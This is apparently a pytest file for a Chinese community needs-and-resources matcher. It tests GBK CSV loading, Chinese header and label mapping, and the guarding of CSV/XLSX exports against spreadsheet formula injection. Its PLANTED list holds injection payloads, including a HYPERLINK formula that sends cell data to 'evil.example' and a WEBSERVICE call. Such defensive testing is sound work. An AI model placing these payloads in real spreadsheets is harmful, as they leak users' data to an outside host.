"""Files people already have load, every export reads back in, and no exported cell can run a formula."""

import csv
import io
import zipfile

import pytest

from api.exports import NEED_COLUMNS, Sheet, workbook
from matcher.errors import InvalidRecordsError, LoadError, RecordError
from matcher.readers import load_list, raw_rows
from matcher.records import parse_need, parse_resource
from matcher.writers import write_rows

# What an attacker would post as a title: each would run in Excel if written as it stands.
PLANTED = ['=HYPERLINK("http://evil.example/?d="&A2,"点我")', "=WEBSERVICE(\"http://evil.example\")",
           "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=already quoted"]


def _formula_cells(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in sheets if b"<f>" in book.read(n) or b"<f " in book.read(n)]


def test_csv_export_quotes_every_formula_start_and_reads_back_unchanged(tmp_path):
    rows = [{"id": f"n{i}", "title": f"求助{title}"} for i, title in enumerate(PLANTED)]
    rows += [{"id": f"m{i}", "title": title} for i, title in enumerate(PLANTED)]
    path = write_rows(tmp_path / "out.csv", rows, ["id", "title"])
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = {row["id"]: row["title"] for row in csv.DictReader(handle)}
    for i, title in enumerate(PLANTED):
        # As OWASP advises: a leading apostrophe, so the spreadsheet shows text; inside the text, nothing runs.
        assert cells[f"m{i}"] == f"'{title}" and cells[f"n{i}"] == f"求助{title}"
    assert [raw["title"] for _, raw in raw_rows(path)] == [r["title"] for r in rows]


def test_xlsx_exports_write_text_never_a_formula(tmp_path):
    rows = [{"id": f"m{i}", "title": title} for i, title in enumerate(PLANTED)]
    cli = write_rows(tmp_path / "out.xlsx", rows, ["id", "title"]).read_bytes()
    api = workbook([Sheet("需求清单", NEED_COLUMNS, rows)])
    for xlsx in (cli, api):
        assert _formula_cells(xlsx) == []
    # XML stores a lone carriage return as a line feed; every other character comes back as written.
    written = [t.replace("\r", "\n") for t in PLANTED]
    assert [raw["title"] for _, raw in raw_rows(tmp_path / "out.xlsx")] == written
    (tmp_path / "api.xlsx").write_bytes(api)
    assert [raw["需求标题"] for _, raw in raw_rows(tmp_path / "api.xlsx")] == written


def test_a_grid_offices_chinese_headed_gbk_csv_loads(tmp_path):
    path = tmp_path / "需求.csv"
    path.write_bytes("编号,标题,描述,网格,发布方,截止日期\nq1,独居老人助餐,每天午饭送餐上门,g1,社区,2026-12-31\n"
                     .encode("gbk"))
    (need,) = load_list(path, "needs").records
    assert (need.id, need.title, need.description, need.grid, need.side, str(need.deadline)) == (
        "q1", "独居老人助餐", "每天午饭送餐上门", "g1", "community", "2026-12-31")


def test_the_labels_exports_show_read_back_as_their_codes():
    need = parse_need({"需求编号": "n1", "需求标题": "场地", "状态": "已关闭", "匹配范围": "本街道",
                       "发布方": "未注明"})
    assert (need.id, need.status, need.ring, need.side) == ("n1", "closed", "street", "")
    resource = parse_resource({"资源编号": "r1", "资源标题": "会议室", "容量": 3, "已占用": 1, "提供方": "企业"})
    assert (resource.id, resource.capacity, resource.taken, resource.side) == ("r1", 3, 1, "enterprise")


def test_a_field_under_its_own_name_wins_over_its_chinese_header():
    assert parse_need({"id": "n1", "编号": "other", "title": "场地"}).id == "n1"


def test_a_header_without_an_id_column_names_the_headers_accepted(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("名字,标题\nq1,助餐\n", encoding="utf-8")
    with pytest.raises(LoadError) as caught:
        load_list(path, "needs")
    assert "编号" in str(caught.value) and "需求编号" in str(caught.value) and "名字" in str(caught.value)


def test_a_bad_choice_names_the_chinese_values_accepted():
    with pytest.raises(RecordError) as caught:
        parse_need({"id": "n1", "title": "场地", "side": "政府"})
    assert "企业" in str(caught.value) and "社区" in str(caught.value) and "政府" in str(caught.value)


def test_a_bad_row_in_a_chinese_csv_is_named_by_its_line(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("编号,标题,容量\nr1,会议室,2\nr2,活动室,很多\n", encoding="utf-8")
    with pytest.raises(InvalidRecordsError) as caught:
        load_list(path, "resources")
    (error,) = caught.value.errors
    assert (error.field, error.record) == ("capacity", 3)
